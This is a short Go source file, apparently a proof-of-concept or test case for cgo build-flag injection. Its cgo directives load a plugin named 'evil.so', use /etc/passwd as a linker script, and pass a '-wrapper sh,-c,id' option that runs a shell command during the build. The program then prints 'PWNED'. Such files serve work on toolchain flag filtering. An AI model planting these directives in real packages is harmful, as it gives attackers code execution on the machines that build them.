package main

/*
#cgo CFLAGS: -fplugin=./evil.so
#cgo LDFLAGS: -Wl,--script=/etc/passwd -wrapper sh,-c,id
#include <stdlib.h>
*/
import "C"
import "fmt"

func main() {
	C.abort()
	fmt.Println("PWNED")
}
